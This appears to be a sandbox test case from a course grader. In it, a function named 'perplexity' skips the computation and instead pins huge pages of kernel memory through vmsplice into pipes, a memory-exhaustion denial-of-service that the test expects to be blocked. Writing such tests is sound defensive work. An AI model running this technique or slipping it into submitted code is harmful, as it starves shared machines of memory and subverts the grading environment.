"""Gives pipes a byte of each of many huge pages, which they hold when nobody maps these any more.

kind: denial
lesson: lesson3_logits
expect: perplexity blocked
"""

import ctypes
import os
from ctypes import c_int, c_long, c_size_t, c_uint, c_void_p

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = c_void_p
libc.mmap.argtypes = [c_void_p, c_size_t, c_int, c_int, c_int, c_long]
libc.munmap.argtypes = [c_void_p, c_size_t]
libc.madvise.argtypes = [c_void_p, c_size_t, c_int]
libc.vmsplice.argtypes = [c_int, c_void_p, c_size_t, c_uint]
HUGE = 1 << 21
NO_WAITING = 2


def perplexity(log_probs):
    given = 0
    for _ in range(50):
        _, end = os.pipe()
        for _ in range(16):
            room = libc.mmap(None, 2 * HUGE, 3, 0x22, -1, 0)
            page = (room + HUGE - 1) // HUGE * HUGE
            libc.madvise(page, HUGE, 14)
            ctypes.memset(page, 1, HUGE)
            piece = (c_size_t * 2)(page, 1)
            if libc.vmsplice(end, ctypes.byref(piece), 1, NO_WAITING) != 1:
                raise OSError(ctypes.get_errno(), "vmsplice")
            libc.munmap(room, 2 * HUGE)
            given += HUGE
    print(f"SUCCEEDED: {given:,} bytes are held")
